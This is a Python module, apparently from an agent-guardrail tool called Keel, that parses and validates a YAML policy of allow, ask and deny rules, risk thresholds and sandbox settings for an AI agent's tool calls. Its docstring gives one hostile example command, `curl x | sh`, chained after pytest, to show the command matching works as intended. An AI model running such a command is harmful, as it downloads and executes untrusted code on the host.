"""The policy: a project's allow / ask / deny rules and the risk thresholds, read from YAML.

    thresholds: {ask: 40, deny: 80}      # risk score (0-100) from which a call is asked/denied
    rules:                               # for every agent
      - {action: deny, scope: file:read, path: "**/.env", reason: secrets stay out of prompts}
      - {action: ask, command: "git push*"}
    agents:
      coder:                             # an agent's own section
        thresholds: {ask: 50}            # overrides the global ones, key by key
        rules:
          - {action: allow, command: "npm install*"}

A rule matches a call when every matcher it has matches (a rule with none matches every
call). `tool` is a tool name or glob; `scope` a permission scope the tool needs
(`file:*` covers `file:read`); `path` a glob over the paths the call names; `command` a
pattern over each simple command of a `run_command` line, wrappers such as `sudo` peeled
off or not. A deny or ask rule matches when any path or simple command matches; an allow
rule only when every one does (`cd` aside), so `allow pytest*` does not allow
`pytest; curl x | sh`.

Of the rules that match, the most specific decides: a rule of the agent's own section
beats a global one; then the rule with more argument matchers (path, command); then more
category matchers (tool, scope); then more exact matchers (no wildcard). On equal
specificity deny beats ask beats allow; then the rule written first wins.

How a rule's verdict combines with the risk score is `check`'s business: deny rules and
the deny threshold always win; an allow rule lifts an `ask` that comes from the score.
A bad file raises `PolicyError` naming the file and the rule: Keel refuses to start rather
than run unguarded.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import yaml

from keel.errors import ConfigError
from keel.guardrails.globs import Pattern, command_pattern, path_glob, tool_glob
from keel.guardrails.permissions import covers
from keel.types import NAME_PATTERN, SCOPE_PATTERN

Action = Literal["allow", "ask", "deny"]
ACTIONS: tuple[Action, ...] = ("allow", "ask", "deny")
SEVERITY: dict[Action, int] = {"allow": 0, "ask": 1, "deny": 2}
POLICY_FILE = "keel.policy.yaml"
"""The policy file of a project, at its root, versioned with the code."""
DEFAULT_ASK = 40
DEFAULT_DENY = 80
RULE_KEYS = ("action", "tool", "scope", "path", "command", "reason")
NAVIGATION = frozenset({"cd", "pushd", "popd"})
"""Commands an allow rule's `command` need not cover: they only move around."""


class PolicyError(ConfigError):
    """A policy file is invalid; the message names the file, the rule and the fix."""

    def __init__(self, source: str, where: str, problem: str) -> None:
        self.source = source
        self.where = where
        self.problem = problem
        super().__init__(f"{source}: {where}: {problem}" if where else f"{source}: {problem}")


@dataclass(frozen=True, slots=True)
class Thresholds:
    ask: int = DEFAULT_ASK
    deny: int = DEFAULT_DENY

    def verdict(self, score: int) -> Action:
        if score >= self.deny:
            return "deny"
        return "ask" if score >= self.ask else "allow"


@dataclass(frozen=True, slots=True)
class PolicyCall:
    """What the rules look at in one call."""

    tool: str
    scopes: tuple[str, ...] = ()
    commands: tuple[tuple[str, str], ...] = ()
    """Each simple command of a `run_command` line: as written, and wrappers peeled off."""
    paths: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Rule:
    id: str
    """Where it is written: `rules[0]` or `agents.coder.rules[1]`."""
    action: Action
    tool: Pattern | None = None
    scope: str | None = None
    path: Pattern | None = None
    command: Pattern | None = None
    reason: str | None = None
    in_agent_section: bool = False

    @property
    def specificity(self) -> tuple[int, int, int, int, int]:
        arguments = [m for m in (self.path, self.command) if m is not None]
        categories = [m for m in (self.tool, self.scope) if m is not None]
        exact = sum(1 for m in (self.tool, self.path, self.command) if m and m.literal)
        exact += 1 if self.scope and "*" not in self.scope else 0
        return (
            int(self.in_agent_section),
            len(arguments),
            len(categories),
            exact,
            SEVERITY[self.action],
        )

    def describe(self) -> str:
        """`deny path '**/.env'`: the rule in one line."""
        parts: list[str] = [self.action]
        for key, value in (
            ("tool", self.tool.text if self.tool else None),
            ("scope", self.scope),
            ("path", self.path.text if self.path else None),
            ("command", self.command.text if self.command else None),
        ):
            if value is not None:
                parts.append(f"{key} '{value}'")
        return " ".join(parts) if len(parts) > 1 else f"{self.action} every call"

    def matches(self, call: PolicyCall) -> bool:
        if self.tool and not self.tool.matches(call.tool):
            return False
        if self.scope and not any(covers(self.scope, scope) for scope in call.scopes):
            return False
        every = self.action == "allow"
        if self.command:
            pattern = self.command
            commands = [
                c for c in call.commands if not (every and c[1].split(" ")[0] in NAVIGATION)
            ]
            hits = [pattern.matches(written) or pattern.matches(run) for written, run in commands]
            if not hits or not (all(hits) if every else any(hits)):
                return False
        if self.path:
            hits = [self.path.matches(path) for path in call.paths]
            if not hits or not (all(hits) if every else any(hits)):
                return False
        return True


@dataclass(frozen=True, slots=True)
class AgentSection:
    rules: tuple[Rule, ...] = ()
    ask: int | None = None
    deny: int | None = None


SANDBOX_BACKENDS = ("auto", "bubblewrap", "docker", "podman", "container", "local")


@dataclass(frozen=True, slots=True)
class SandboxPolicy:
    """Where commands run: a backend (`auto` picks bubblewrap on Linux), and whether Keel
    may run them unsandboxed on the host when no sandbox works (never by default)."""

    backend: str = "auto"
    allow_unsandboxed: bool = False


@dataclass(frozen=True, slots=True)
class Policy:
    thresholds: Thresholds = field(default_factory=Thresholds)
    rules: tuple[Rule, ...] = ()
    agents: Mapping[str, AgentSection] = field(default_factory=dict)
    sandbox: SandboxPolicy = field(default_factory=SandboxPolicy)
    source: str = "the default policy"

    @classmethod
    def default(cls) -> Policy:
        """No rules; ask from a risk of 40, deny from 80."""
        return cls()

    @classmethod
    def for_project(cls, root: Path) -> Policy:
        """The project's `keel.policy.yaml` if it has one, else the default policy."""
        path = root / POLICY_FILE
        return cls.load(path) if path.exists() else cls.default()

    @classmethod
    def load(cls, path: Path | str, *, home: Path | None = None) -> Policy:
        """Read and validate a policy file; raise `PolicyError` naming what is wrong."""
        source = str(path)
        try:
            text = Path(path).read_text(encoding="utf-8")
        except FileNotFoundError:
            raise PolicyError(source, "", "no such policy file") from None
        except OSError as error:
            raise PolicyError(source, "", f"cannot be read: {error.strerror}") from None
        try:
            data = yaml.safe_load(text)
        except yaml.YAMLError as error:
            mark = getattr(error, "problem_mark", None)
            line = f" at line {mark.line + 1}" if mark is not None else ""
            problem = getattr(error, "problem", None) or "invalid syntax"
            raise PolicyError(source, "", f"is not valid YAML{line}: {problem}") from None
        return cls.from_data(data, source=source, home=home)

    @classmethod
    def from_data(cls, data: Any, *, source: str = "policy", home: Path | None = None) -> Policy:
        """Validate already-parsed YAML (a mapping, or None for an empty file)."""
        return _Reader(source, home).policy(data)

    def thresholds_for(self, agent: str) -> Thresholds:
        section = self.agents.get(agent)
        if section is None:
            return self.thresholds
        return Thresholds(
            ask=self.thresholds.ask if section.ask is None else section.ask,
            deny=self.thresholds.deny if section.deny is None else section.deny,
        )

    def decide(self, agent: str, call: PolicyCall) -> Rule | None:
        """The rule that decides `call` for `agent`, or None when no rule matches."""
        section = self.agents.get(agent)
        candidates = (*(section.rules if section else ()), *self.rules)
        best: Rule | None = None
        for rule in candidates:
            if rule.matches(call) and (best is None or rule.specificity > best.specificity):
                best = rule
        return best


class _Reader:
    """Turns parsed YAML into a `Policy`, or raises `PolicyError` at the first problem."""

    def __init__(self, source: str, home: Path | None) -> None:
        self.source = source
        self.home = home

    def fail(self, where: str, problem: str) -> PolicyError:
        return PolicyError(self.source, where, problem)

    def sandbox(self, data: Any) -> SandboxPolicy:
        if data is None:
            return SandboxPolicy()
        problem = "must be a mapping with backend and allowUnsandboxed"
        self.mapping(data, "sandbox", ("backend", "allowUnsandboxed"), problem)
        backend = data.get("backend", "auto")
        if backend not in SANDBOX_BACKENDS:
            raise self.fail("sandbox.backend", f"must be one of {', '.join(SANDBOX_BACKENDS)}")
        allow = data.get("allowUnsandboxed", False)
        if not isinstance(allow, bool):
            raise self.fail("sandbox.allowUnsandboxed", "must be true or false")
        return SandboxPolicy(backend=backend, allow_unsandboxed=allow)

    def policy(self, data: Any) -> Policy:
        if data is None:
            return Policy(source=self.source)
        known = ("thresholds", "rules", "agents", "sandbox")
        problem = "the policy must be a mapping with thresholds, rules, agents and sandbox"
        self.mapping(data, "", known, problem)
        sandbox = self.sandbox(data.get("sandbox"))
        ask, deny = self.thresholds(data.get("thresholds"), "thresholds")
        thresholds = Thresholds(
            ask=DEFAULT_ASK if ask is None else ask, deny=DEFAULT_DENY if deny is None else deny
        )
        if thresholds.ask > thresholds.deny:
            problem = f"ask ({thresholds.ask}) is above deny ({thresholds.deny})"
            raise self.fail("thresholds", problem)
        rules = self.rules(data.get("rules"), "rules", in_agent_section=False)
        agents: dict[str, AgentSection] = {}
        raw_agents = data.get("agents") or {}
        if not isinstance(raw_agents, dict):
            raise self.fail("agents", "must be a mapping of agent names to sections")
        for name, raw in raw_agents.items():
            where = f"agents.{name}"
            if not isinstance(name, str) or not _is_agent_name(name):
                raise self.fail(where, "is not an agent name (letters, digits, '_', '.', '-')")
            self.mapping(raw, where, ("rules", "thresholds"), "must be a mapping with rules")
            section = self.thresholds(raw.get("thresholds"), f"{where}.thresholds")
            section_ask, section_deny = section
            effective_ask = thresholds.ask if section_ask is None else section_ask
            effective_deny = thresholds.deny if section_deny is None else section_deny
            if effective_ask > effective_deny:
                problem = f"ask ({effective_ask}) is above deny ({effective_deny})"
                raise self.fail(f"{where}.thresholds", problem)
            section_rules = self.rules(raw.get("rules"), f"{where}.rules", in_agent_section=True)
            agents[name] = AgentSection(section_rules, section_ask, section_deny)
        return Policy(thresholds, rules, agents, sandbox, self.source)

    def mapping(self, data: Any, where: str, known: tuple[str, ...], problem: str) -> None:
        if not isinstance(data, dict):
            raise self.fail(where, problem)
        for key in data:
            if key not in known:
                raise self.fail(where, f"unknown key '{key}' (known: {', '.join(known)})")

    def thresholds(self, data: Any, where: str) -> tuple[int | None, int | None]:
        if data is None:
            return None, None
        example = "must be a mapping such as {ask: 40, deny: 80}"
        self.mapping(data, where, ("ask", "deny"), example)
        values: list[int | None] = []
        for key in ("ask", "deny"):
            value = data.get(key)
            if value is not None and (
                isinstance(value, bool) or not isinstance(value, int) or not 0 <= value <= 100
            ):
                problem = f"must be a whole number from 0 to 100 (got {value!r})"
                raise self.fail(f"{where}.{key}", problem)
            values.append(value)
        return values[0], values[1]

    def rules(self, data: Any, where: str, *, in_agent_section: bool) -> tuple[Rule, ...]:
        if data is None:
            return ()
        if not isinstance(data, list):
            raise self.fail(where, "must be a list of rules")
        return tuple(
            self.rule(raw, f"{where}[{i}]", in_agent_section=in_agent_section)
            for i, raw in enumerate(data)
        )

    def rule(self, data: Any, where: str, *, in_agent_section: bool) -> Rule:
        example = "a rule must be a mapping such as {action: deny, path: '**/.env'}"
        self.mapping(data, where, RULE_KEYS, example)
        action = data.get("action")
        if action is None:
            raise self.fail(f"{where}.action", "missing; write allow, ask or deny")
        if action not in ACTIONS:
            raise self.fail(f"{where}.action", f"must be allow, ask or deny (got {action!r})")
        for key in RULE_KEYS[1:]:
            if key in data and not isinstance(data[key], str):
                raise self.fail(f"{where}.{key}", f"must be a string (got {data[key]!r})")
        scope = data.get("scope")
        if scope is not None and not SCOPE_PATTERN.match(scope):
            problem = f"'{scope}' is not a scope; write 'resource:action' such as 'file:read'"
            raise self.fail(f"{where}.scope", problem)
        tool = self.pattern(data, "tool", where, tool_glob)
        command = self.pattern(data, "command", where, command_pattern)
        if command is not None and tool is not None and not tool.matches("run_command"):
            problem = f"applies only to run_command, but the rule is for tool '{tool.text}'"
            raise self.fail(f"{where}.command", problem)
        return Rule(
            id=where,
            action=action,
            tool=tool,
            scope=scope,
            path=self.pattern(data, "path", where, lambda text: path_glob(text, self.home)),
            command=command,
            reason=data.get("reason"),
            in_agent_section=in_agent_section,
        )

    def pattern(
        self, data: dict[str, Any], key: str, where: str, compile: Callable[[str], Pattern]
    ) -> Pattern | None:
        text = data.get(key)
        if text is None:
            return None
        try:
            return compile(text)
        except ValueError as error:
            raise self.fail(f"{where}.{key}", str(error)) from None


def _is_agent_name(name: str) -> bool:
    return re.match(NAME_PATTERN, name) is not None
